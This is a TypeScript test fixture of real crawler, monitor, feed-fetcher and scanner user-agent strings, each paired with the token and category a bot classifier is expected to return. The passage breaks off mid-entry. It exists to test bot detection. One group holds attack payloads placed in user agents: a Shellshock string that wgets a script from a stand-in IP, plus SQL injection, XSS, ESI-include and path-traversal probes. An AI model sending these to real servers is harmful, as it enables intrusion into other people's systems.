/**
 * Real agents of the kinds the crawler-truth check found missed or wrongly flagged, for the classifier's tests
 * and the ingest endpoints' tests. Crawler agents are as crawler lists (monperrus/crawler-user-agents,
 * arcjet/well-known-bots) and vendors' crawler pages print them; people's agents as parser test data
 * (ua-parser/uap-core, bowser) gives them; the bad-agent list's crawlers as crawler-user-agents and uap-core's
 * test data print them; the names-only lists' crawlers (COUNTER-Robots, fnando/browser, GoAccess) as fnando/browser's
 * test data prints them; browscap's robots and applications (MIT) as browscap's test agents print them. `token` is the catalog token expected, or "unknown" for automation
 * the catalog does not name; `category` the category expected.
 */

export interface AutomatedAgent {
  ua: string;
  token: string;
  category: string;
}

/** Automated agents by kind: each must be flagged (crawler or automation), never a person. */
export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
  "Google special-case crawler or user-triggered fetcher": [
    {
      ua:
        "Mozilla/5.0 (Linux; Android 9; SAMSUNG SM-G960U) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Google-AMPHTML)",
      token: "Google-AMPHTML",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36 (compatible; Google-HotelAdsVerifier/2.0)",
      token: "Google-HotelAdsVerifier",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Linux; Android 11; Pixel 2; DuplexWeb-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.193 Mobile Safari/537.36",
      token: "DuplexWeb-Google",
      category: "ai_assistant",
    },
    {
      ua:
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 (compatible; Google Web Light)",
      token: "Google Web Light",
      category: "other",
    },
    {
      ua: "Mozilla/5.0 (compatible; Google-Business-Link-Verification/1.0)",
      token: "Google-Business-Link-Verification",
      category: "monitoring",
    },
    {
      ua:
        "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Mobile Safari/537.36 Chrome-Lighthouse",
      token: "Chrome-Lighthouse",
      category: "monitoring",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36 Google-Ads-Conversions",
      token: "Google-Ads-Conversions",
      category: "other",
    },
  ],
  "Microsoft, Apple, Yandex, Baidu, Naver, Daum and Sogou crawlers": [
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.126 Safari/537.36 Edg/126.0.2592.102 (compatible; BingPreview/1.0b)",
      token: "BingPreview",
      category: "social_preview",
    },
    {
      ua:
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
      token: "Applebot",
      category: "search_engine",
    },
    {
      ua: "Mozilla/5.0 (compatible; YandexMetrika/2.0; +http://yandex.com/bots)",
      token: "YandexMetrika",
      category: "monitoring",
    },
    {
      ua: "Mozilla/5.0 (compatible; Baiduspider-render/2.0; +http://www.baidu.com/search/spider.html)",
      token: "Baiduspider-render",
      category: "search_engine",
    },
    {
      ua: "Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)",
      token: "Yeti",
      category: "search_engine",
    },
    {
      ua: "Mozilla/5.0 (compatible; Daum/4.1; +http://cs.daum.net/faq/15/4118.html?faqId=28966)",
      token: "Daumoa",
      category: "search_engine",
    },
    {
      ua: "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
      token: "Sogou web spider",
      category: "search_engine",
    },
  ],
  "monitoring, performance, SEO and security tools appending their token to a browser agent": [
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/62.0.3202.75 Safari/537.36 DareBoost",
      token: "DareBoost",
      category: "monitoring",
    },
    {
      ua:
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_14_6) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.212 Safari/537.36 Hardenize",
      token: "Hardenize",
      category: "security_scanner",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 SecurityHeaders",
      token: "SecurityHeaders",
      category: "security_scanner",
    },
    {
      ua:
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/95.0.4638.69 Safari/537.36 Silktide",
      token: "Silktide",
      category: "monitoring",
    },
    {
      ua:
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.10; rv:41.0) Gecko/20100101 Firefox/55.0 BrandVerity/1.0 (http://www.brandverity.com/why-is-brandverity-visiting-me)",
      token: "BrandVerity",
      category: "seo_tool",
    },
  ],
  "a contact e-mail address as a part of its own after a browser's prefix (uap-core's PGTS robots, Yauaa's tests)":
    [
      {
        ua: "Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.4) Larbin/2.6.3 (larbin@unspecified.mail)",
        token: "unknown",
        category: "other",
      },
      { ua: "Mozilla/4.0 (info@example.nl)", token: "unknown", category: "other" },
      // a made-up probe of the form, which only this sign tells (Internet Explorer's agent and a contact address)
      {
        ua: "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1) (info@example.de)",
        token: "unknown",
        category: "other",
      },
    ],
  "tools the catalog does not name, caught by the structural rule": [
    // the same shapes with product names no list holds: a product appended after a complete browser agent
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 PageWatchman/1.2",
      token: "unknown",
      category: "other",
    },
    {
      ua: "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0 TagInspector",
      token: "unknown",
      category: "other",
    },
  ],
  "scripts wearing a desktop browser's prefix with no engine or browser after it": [
    // a browser agent cut short after its platform, the form scripts borrow; no desktop browser sends it
    { ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", token: "unknown", category: "other" },
    {
      ua: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",
      token: "unknown",
      category: "other",
    },
    // on Windows too: its web views name Chrome after the engine (opawg's three browser lines of this shape
    // stay flagged)
    {
      ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
      token: "unknown",
      category: "other",
    },
  ],
  "tag inspectors and HTTP client libraries inside a browser's agent": [
    // Ghost Inspector's test runner (crawler-user-agents; a catalog name since the twenty-third round, ua-parser2),
    // Google's Java HTTP client in an old phone's agent (uap-core)
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/107.0 Safari/537.36 Ghost Inspector (63c85ddbde52d6697f57c623)",
      token: "Ghost Inspector",
      category: "monitoring",
    },
    {
      ua:
        "Mozilla/5.0 (Linux; U; Android 2.1-update1; de-de; E10i Build/2.1.1.C.0.0) AppleWebKit/530.17 (KHTML, like Gecko) Version/4.0 Mobile Safari/530.17 Google-HTTP-Java-Client/1.10.3-beta (gzip)",
      token: "unknown",
      category: "other",
    },
  ],
  "podcast importers, downloaders and sync services, and PowerShell's web cmdlets": [
    // opawg/user-agents-v2's bots (MIT), as its samples print them; the media rule took the first two for players
    { ua: "PodcastBulkDownloader/0.10.1", token: "PodcastBulkDownloader", category: "feed_fetcher" },
    { ua: "magic-podcast-downloader/1.0", token: "magic-podcast-downloader", category: "feed_fetcher" },
    {
      ua: "castget 1.2.4 (castget rss enclosure downloader)",
      token: "castget",
      category: "other",
    },
    {
      ua: "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.2673",
      token: "unknown",
      category: "other",
    },
  ],
  "Node.js's runtime wearing a browser's prefix (the grown part's crawler)": [
    {
      ua: "Mozilla/5.0 (Linux x64) node.js/16.14.2 v8/9.4.146.24-node.20",
      token: "unknown",
      category: "other",
    },
  ],
  "tools named for fetching, checking or testing URLs, beside a phone's platform": [
    // Akamai's Mobitest page-speed tester (Yauaa's test agents, Apache-2.0): the native-app rule took it before
    { ua: "Mobitest 1.8 (iPhone; iPhone OS 7.1.2; nl_NL)", token: "unknown", category: "other" },
    { ua: "scalaj-http/1.0", token: "unknown", category: "other" },
  ],
  "headless renderers: page-to-image converters, Splash, Qt WebKit with no display": [
    // Splash's default agent (crawler-user-agents), Pingdom's renderer (uap-core), wkhtmltoimage's default
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/602.1 (KHTML, like Gecko) splash Version/10.0 Safari/602.1",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) PingdomTMS/0.8.5 Safari/534.34",
      // named since Yauaa's named robots joined the catalog (Pingdom's transaction monitor)
      token: "PingdomTMS",
      category: "monitoring",
    },
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/534.34 (KHTML, like Gecko) wkhtmltoimage Safari/534.34",
      token: "unknown",
      category: "other",
    },
  ],
  "feed readers, podcast and newsletter fetchers": [
    {
      ua: "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)",
      token: "FeedFetcher-Google",
      category: "feed_fetcher",
    },
    {
      ua: "PocketCasts/1.0 (Pocket Casts Feed Parser; +http://pocketcasts.com/)",
      token: "PocketCasts",
      category: "feed_fetcher",
    },
    {
      ua: "Mozilla/5.0 (compatible; YandexBlogs/0.99; robot; +http://yandex.com/bots)",
      token: "YandexBlogs",
      category: "feed_fetcher",
    },
  ],
  "archivers": [
    {
      ua: "Mozilla/5.0 (compatible; archive.org_bot +http://www.archive.org/details/archive.org_bot)",
      token: "archive.org_bot",
      category: "archiver",
    },
  ],
  "link-preview, image-proxy and mail-client image-proxy fetchers": [
    {
      ua: "Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)",
      token: "GoogleImageProxy",
      category: "social_preview",
    },
    {
      ua: "Mozilla/5.0 (compatible; YandexScreenshotBot/3.0; +http://yandex.com/bots)",
      token: "YandexScreenshotBot",
      category: "social_preview",
    },
  ],
  "bad agents named by nginx-ultimate-bad-bot-blocker's list": [
    {
      ua: "Mozilla/5.0 (compatible; SiteExplorer/1.1b; +http://siteexplorer.info/Backlink-Checker-Spider/)",
      token: "SiteExplorer",
      category: "other",
    },
    {
      ua: "TurnitinBot/3.0 (http://www.turnitin.com/robot/crawlerinfo.html)",
      token: "TurnitinBot",
      category: "other",
    },
    { ua: "Xaldon WebSpider 2.7.b6", token: "Xaldon WebSpider", category: "other" },
  ],
  "tools inside a browser's agent: a compatible part or an address where browsers carry none": [
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; BW/1.2; rb.gy/oupwis) Chrome/124.0.0.0 Safari/537.36",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 6.1; WOW64; https://top.mail.ru/passremind) AppleWebKit/537.22 (KHTML, like Gecko)",
      token: "unknown",
      category: "other",
    },
  ],
  "services' fetchers under an app's name, with a URL and no platform": [
    {
      // named since the sixth round: opawg/user-agents-v2 lists Overcast's feed parser by this name
      ua: "Overcast/1.0 Podcast Sync (123 subscribers; feed-id=456789; +http://overcast.fm/)",
      token: "Overcast/1.0 Podcast Sync",
      category: "feed_fetcher",
    },
    { ua: "Pinterest/0.2 (+http://www.pinterest.com/)", token: "unknown", category: "other" },
    { ua: "Ghost/2.13.1+moya (https://github.com/TryGhost/Ghost)", token: "unknown", category: "other" },
  ],
  // Yandex's robots as its page on checking them names them (verified by Yandex's reverse DNS)
  "Yandex's product robots": [
    {
      ua: "Mozilla/5.0 (compatible; YandexMarket/2.0; +http://yandex.com/bots)",
      token: "YandexMarket",
      category: "search_engine",
    },
    {
      ua: "Mozilla/5.0 (compatible; YandexCalendar/1.0; +http://yandex.com/bots)",
      token: "YandexCalendar",
      category: "feed_fetcher",
    },
  ],
  // agents as fnando/browser's test data prints them (MIT); the names from its bot list, COUNTER-Robots and GoAccess
  "crawlers named only by COUNTER-Robots, fnando/browser or GoAccess": [
    { ua: "ImplisenseBot 1.0", token: "ImplisenseBot", category: "other" },
    { ua: "NewRelicPinger/1.0 (12345)", token: "NewRelicPinger", category: "monitoring" },
    { ua: "ScoutURLMonitor/6.2.2", token: "ScoutURLMonitor", category: "monitoring" },
    {
      ua: "Mozilla/5.0 (compatible; SEOdiver/1.0; +http://www.seodiver.com/bot)",
      token: "SEOdiver",
      category: "seo_tool",
    },
    { ua: "Quick-Crawler (+https://www.scrapinghub.com/)", token: "Quick-Crawler", category: "other" },
  ],
  // OS and Office components that fetch certificates and updates or probe a link before a program opens it: no
  // page a person reads (uap-core's test data files the first two among its crawlers; COUNTER-Robots lists the rest)
  "robots named by browscap's bot list, as its own test agents print them": [
    { ua: "adstxtlab.com Crawler", token: "adstxtlab.com Crawler", category: "other" },
    {
      ua: "Mozilla/5.0 (compatible; SEODat/0.1 http://crawler.seodat.com)",
      token: "SEODat",
      category: "seo_tool",
    },
  ],
  "OS and Office components": [
    { ua: "Microsoft-CryptoAPI/10.0", token: "unknown", category: "other" },
    { ua: "Windows-Update-Agent/7.9.9600.17729 Client-Protocol/1.21", token: "unknown", category: "other" },
    // Office's own link probes are named by the catalog's Office entry since the eighth round
    { ua: "Microsoft Office Existence Discovery", token: "Microsoft Office", category: "social_preview" },
    { ua: "Microsoft Office Protocol Discovery", token: "Microsoft Office", category: "social_preview" },
    { ua: "Microsoft-WebDAV-MiniRedir/10.0.19045", token: "unknown", category: "other" },
    // Apple's certificate daemon, as Apple's Security sources set it (trust/trustd/TrustURLSessionCache.m): a
    // bundle-id shape, but no app's (eighteenth round)
    { ua: "com.apple.trustd/2.1", token: "unknown", category: "other" },
  ],
  // Office checks a link a person clicks or pastes with its own agent before the browser opens it, and Outlook
  // loads a mail's images with its own: requests on the person's behalf, not a page read (docs/crawlers.md, the
  // eighth round); agents as uap-core's, Yauaa's and opawg/user-agents-v2's test data print them
  "Office's and Outlook's own requests: link checks and mail image fetches": [
    ...[
      "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.6326; Pro)",
      "Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.6525; Pro)",
      "Microsoft Office/15.0 (Windows NT 10.0; Microsoft Word 15.0.5059; Pro)",
      "Microsoft Office/16.0 (Macintosh; Mac OS X 14.1; Microsoft Excel 16.79)",
      "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
      "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/8.0; .NET4.0C; .NET4.0E; .NET CLR 2.0.50727; .NET CLR 3.0.30729; .NET CLR 3.5.30729; Microsoft Outlook 16.0.6366; ms-office; MSOffice 16)",
      "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/6.0; Microsoft Outlook 15.0.4420)",
      "Microsoft Outlook 16.0.17126",
      "Outlook-Express/7.0 (MSIE 7.0; Windows NT 5.1; InfoPath.2; .NET CLR 1.1.4322; .NET CLR 2.0.50727; TmstmpExt)",
      "MacOutlook/16.20.0.181208 (Intelx64 Mac OS X Version 10.14.2 (Build 18C54))",
      // Outlook's mobile app names its device in its own agent: still Outlook's own request
      "Outlook-iOS/665.29827.prod.iphone (2.63.0)",
      "Outlook-Android/2.0",
    ].map((ua) => ({ ua, token: "Microsoft Office", category: "social_preview" })),
  ],
  // a Firefox build made to evade bot detection (uap-core's test data files it as a browser, its comment as a
  // scraping tool) and an S3 storage client giving its home page and no platform
  "scraping browsers and storage API clients": [
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64; rv:Camoufox Camoufox 140.0) Gecko/20100101 Firefox/Camoufox Camoufox 140.0",
      token: "unknown",
      category: "other",
    },
    { ua: "S3 Browser 8.6.7 https://s3browser.com", token: "unknown", category: "other" },
  ],
  "robots and scanners named by Yauaa's lookups, as its own test agents print them": [
    {
      ua:
        "Amazon-Route53-Health-Check-Service (ref d34006d5-e0af-47af-9569-e453d7a631f0; report http://amzn.to/1vsZADi)",
      token: "Amazon-Route53-Health-Check-Service",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) DownloaderChrome/62.0.3202.75 Safari/537.36",
      token: "DownloaderChrome",
      category: "other",
    },
    {
      ua: "Mozilla/5.0 (X11; Linux i686; rv:10.0.2) Gecko/20100101 Firefox/10.0.2 DejaClick/2.4.1.6",
      token: "DejaClick",
      category: "other",
    },
  ],
  "forged browser agents: misspelled parts, a colon after Macintosh, a library joined by a comma (Yauaa's test agents)":
    [
      {
        ua:
          "Mozlila/5.0 (Linux; Android 7.0; SM-G892A Bulid/NRD90M; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/60.0.3112.107 Moblie Safari/537.36",
        token: "unknown",
        category: "other",
      },
      {
        ua:
          "Mozilla/5.0 (Macintosh: Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
        token: "unknown",
        category: "other",
      },
      {
        ua: "hackney/1.6.6, Mozilla/5.0 (Windows NT 6.1; WOW64; rv:29.0) Gecko/20100101 Firefox/29.0",
        token: "unknown",
        category: "other",
      },
    ],
  "podcast services saying what they do: a sync with its subscriber count, a downloader (opawg's sample agents)":
    [
      {
        ua: "PlayerFM/1.0 Podcast Sync (0 subscribers; url=https://player.fm/series/series-2567872)",
        token: "unknown",
        category: "other",
      },
      { ua: "poddl - podcast downloader", token: "unknown", category: "other" },
    ],
  "share-sheet link previews whose own list shows them on Apple's app stack (opawg's sample agents)": [
    { ua: "SharingUIService/1 CFNetwork/1467.1 Darwin/23.0.0", token: "SharingUIService", category: "other" },
    { ua: "ShareSheetUI/1 CFNetwork/1474 Darwin/23.0.0", token: "ShareSheetUI", category: "other" },
  ],
  "scanners that put payloads in the agent": [
    { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
    // a quote closing a value before a semicolon, path climbing right after the version (Yauaa's hacker tests)
    {
      ua:
        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4158.0 Safari/537.36 ";tenable_wasscan_xss_in_element_event=87bf67f4-ff97-4c1e-bad7-67d965e1814c//',
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.83 Safari/537.36../.",
      token: "unknown",
      category: "other",
    },
    { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
    // SQL, script, ESI and path-climbing probes after a whole browser agent (Yauaa's hacker tests print them)
    {
      ua:
        "Mozilla/5.0 (Macintosh; U; PPC Mac OS X Mach-O; en-US; rv:1.7.12) Gecko/20050915 Firefox/1.0.7) ORDER BY 1-- WiRj",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Macintosh; U; PPC Mac OS X Mach-O; en-US; rv:1.7.12) Gecko/20050915 Firefox/1.0.7' WHERE 8348=8348 OR NOT 7373=6149-- QoIW",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.103 Safari/537.36'||DBMS_PIPE.RECEIVE_MESSAGE(CHR(98)||CHR(98)||CHR(98),12)||'",
      token: "unknown",
      category: "other",
    },
    {
      ua: "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1';alert(/XSS/);//",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/73.0.3683.103 Safari/537.36<esi:include src=\\""http://bxss.me/rpb.png\\""/>"',
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "./../Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.138 Safari/537.36",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.83 Safari/537.36/../xyz",
      token: "unknown",
      category: "other",
    },
    {
      ua: "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; {}; SV1)",
      token: "unknown",
      category: "other",
    },
  ],
  "a name inside WebKit's engine parentheses (crawler-user-agents', fnando/browser's sample agents)": [
    {
      ua:
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko, Foregenix) Chrome/91.0.4472.77 Safari/537.36",
      token: "Foregenix",
      category: "security_scanner",
    },
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; GeedoShopProductFinder) Chrome/142.0.0.0 Safari/537.36",
      token: "GeedoShopProductFinder",
      category: "search_engine",
    },
  ],
  "podcast tools whose one name joins podcast with what they do (opawg's sample agents)": [
    { ua: "MixcloudPodcastImporter/2.0", token: "MixcloudPodcastImporter", category: "feed_fetcher" },
    { ua: "beehiiv-podcast-importer/1.0", token: "beehiiv-podcast-importer", category: "feed_fetcher" },
  ],
  "a product after a browser agent versioned by a timestamp, no browser build (Yauaa's robot tests)": [
    {
      ua:
        "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.88 Safari/537.36 Keeper/1598937205",
      token: "unknown",
      category: "other",
    },
  ],
  "security scanners named by OWASP CRS's scanner list (Yauaa's hacker tests and the first corpus print them)":
    [
      { ua: "Fuzz Faster U Fool v1.4.1-dev", token: "fuzz faster", category: "security_scanner" },
      {
        ua: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        token: "nuclei",
        category: "security_scanner",
      },
    ],
  "names of the isbot project's literal patterns, found anywhere (crawler-user-agents' sample agent)": [
    {
      ua:
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.6422.26 Safari/537.36 TestLocally/1.0",
      token: "testlocally",
      category: "monitoring",
    },
  ],
  "opawg's bots whose pattern writes the version as a class or a group of names (opawg's sample agents)": [
    { ua: "Blubrry Podcasting/1.0", token: "Blubrry Podcasting", category: "other" },
    {
      ua: "Mozilla/5.0 (compatible; PodcastTranslator/1.0)",
      token: "PodcastTranslator",
      category: "feed_fetcher",
    },
    {
      ua: "com.apple.Notes.SharingExtension/2812 CFNetwork/1494.0.7 Darwin/23.4.0",
      token: "com.apple.Notes.SharingExtension",
      category: "other",
    },
  ],
  "a surveyor's host under a subdomain, WebKit's layout-test runner, a scanner's payload host as the product (arp242/isbot's test agents)":
    [
      {
        ua:
          "Mozilla/5.0 (Windows; U; Windows NT 5.1; en; rv:1.9.0.13) Gecko/2009073022 Firefox/3.5.2 (.NET CLR 3.5.30729) Survey/2.3 (fr.wsdata.com)",
        token: "unknown",
        category: "other",
      },
      {
        ua:
          "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/536.11 (KHTML, like Gecko) DumpRenderTree/0.0.0.0 Safari/536.11",
        token: "unknown",
        category: "other",
      },
      {
        ua:
          "https://m9wqu1a6h02tm5n1xrib11d1psvljb72vxin6c.burpcollaborator.net/5.0 (Linux; Android 7.0; PLUS Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/61.0.3163.98 Mobile Safari/537.36",
        token: "burpcollaborator",
        category: "security_scanner",
      },
    ],
  "a page transcoder for devices and a link resolver, named only by what they do (browscap's robots)": [
    {
      ua: "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.0; baidu Transcoder;)",
      token: "unknown",
      category: "other",
    },
    {
      ua:
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; zh-CN; rv:1.9.2.8;baidu Transcoder) Gecko/20100722 Firefox/3.6.8 ( .NET CLR 3.5.30729)",
      token: "unknown",
      category: "other",
    },
    { ua: "Evernote Clip Resolver", token: "unknown", category: "other" },
  ],
  "a mail image proxy's 'via' domain after a whole browser agent (Yauaa's test; the domain and address shapes above stay flagged)":
    [
      {
        ua:
          "Mozilla/5.0 (Windows; U; Windows NT 5.1; de; rv:1.9.0.7) Gecko/2009021910 Firefox/3.0.7 (via ggpht.com)",
        token: "unknown",
        category: "other",
      },
    ],
  "podcast and feed services named like a player or reader, saying what they do; a script's name after a bare Mozilla prefix; a crawler's '-Video' suffix (opawg's sample agents)":
    [
      { ua: "PodcastIndex Classifier/1.0", token: "PodcastIndex Classifier", category: "feed_fetcher" },
      {
        ua: "Audiomack Podcast Processor/1.0 (https://audiomack.com/)",
        token: "Audiomack Podcast Processor",
        category: "other",
      },
      {
        ua:
          "PodbeanFeedReader/6.0 (Feed Parser; http://www.podbean.com/; Allow like Gecko) Build/20251103053444",
        token: "PodbeanFeedReader",
        category: "feed_fetcher",
      },
      { ua: "Mozilla/5.0 pods3-backfill/1.0", token: "pods3-backfill", category: "other" },
      { ua: "GoogleOther-Video/1.0", token: "GoogleOther-Video", category: "ai_training" },
    ],
  "names of hexydec/agentzero's crawler mapping, a load tester's build triplet, Outlook's cloud service (agentzero's tests)":
    [
      {
        ua:
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/600.2.5 (KHTML, like Gecko) Version/8.0.2 Safari/600.2.5 (Amazonbot-Video/0.1; +https://developer.amazon.com/support/amazonbot)",
        token: "amazonbot-video",
        category: "other",
      },
      { ua: "DropboxPreviewBot/1.0", token: "DropboxPreviewBot", category: "social_preview" },
      { ua: "Mozilla/5.0 (pc-x86_64-linux-gnu) Siege/4.1.6", token: "unknown", category: "other" },
      {
        ua: "OutlookMobileCloudService-Autodetect/1.0.0",
        token: "Microsoft Office",
        category: "social_preview",
      },
    ],
  "crawlers as a server's log encoded their agent (Yauaa's robots tests)": [
    {
      ua:
        "yacybot%20(freeworld/global;%20amd64%20Linux%203.1.0-1.2-desktop;%20java%201.6.0_22;%20Europe/de)%20http://yacy.net/bot.html",
      token: "yacybot",
      category: "search_engine",
    },
  ],
  "Internet Explorer's offline crawler, Google App Engine's fetcher and an API monitor (three browser sniffers' tests)":
    [
      {
        ua: "Mozilla/4.0 (compatible; MSIE 5.01; Windows NT 5.0; YComp 5.0.2.6; MSIECrawler)",
        token: "MSIECrawler",
        category: "other",
      },
      {
        ua:
          "Mozilla/5.0 (Windows NT 6.1; rv:25.2) Gecko/20150122 Firefox/31.9 PaleMoon/25.2.1 AppEngine-Google; (+http://code.google.com/appengine; appid: s~pxyfatgfw1)",
        token: "AppEngine-Google",
        // App Engine's URL fetch service, whatever an app hosted there fetches: no search engine (twenty-first round)
        category: "other",
      },
      { ua: "runscope-radar/2.0", token: "runscope-radar", category: "monitoring" },
    ],
  "site checkers, auditors, sitemap builders and pingers named by what they do (browscap's robots, uap-core's test agent)":
    [
      { ua: "Website Explorer/0.9.9.9", token: "unknown", category: "other" },
      { ua: "AuditMyPC Webmaster Tool", token: "unknown", category: "other" },
      { ua: "XmlSitemapGenerator - http://XmlSitemapGenerator.org", token: "unknown", category: "other" },
      { ua: "ping-service", token: "unknown", category: "other" },
    ],
  "robots more parsers and bot checks name (user-agent-utils, httpagentparser, woothee, legitbot, arp242/isbot; agents from uap-core's, Yauaa's and arp242/isbot's tests)":
    [
      { ua: "wsr-agent/1.0", token: "wsr-agent", category: "other" },
      {
        ua: "Mozilla/5.0 (compatible; GoogleApps script; +http://script.google.com/bot.html)",
        token: "GoogleApps script",
        category: "other",
      },
      {
        ua:
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.1.5135 Safari/537.36 RuxitRecorder/1.0",
        token: "RuxitRecorder",
        category: "monitoring",
      },
    ],
  "bots and headless browsers the parsers' browser and app tables name too (bowser's tests, crawler-user-agents)":
    [
      // bowser lists PingdomBot and PhantomJS among its browsers, agentzero FlipboardProxy among its apps: the
      // names the catalog holds or an automation sign claims stay out of the known people's names
      {
        ua: "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
        token: "Pingdom",
        category: "monitoring",
      },
      {
        ua:
          "Mozilla/5.0 (Macintosh; Intel Mac OS X) AppleWebKit/534.34 (KHTML, like Gecko) PhantomJS/1.5.0 Safari/534.34",
        token: "unknown",
        category: "other",
      },
      {
        ua:
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.11; rv:49.0) Gecko/20100101 Firefox/49.0 (FlipboardProxy/1.2; +http://flipboard.com/browserproxy)",
        token: "FlipboardProxy",
        category: "social_preview",
      },
    ],
  "robots two more parsers name (commenthol/ua-parser2's bots, HttpUserAgentParser's robots; agents from uap-core's, fnando/browser's and crawler-user-agents' tests)":
    [
      {
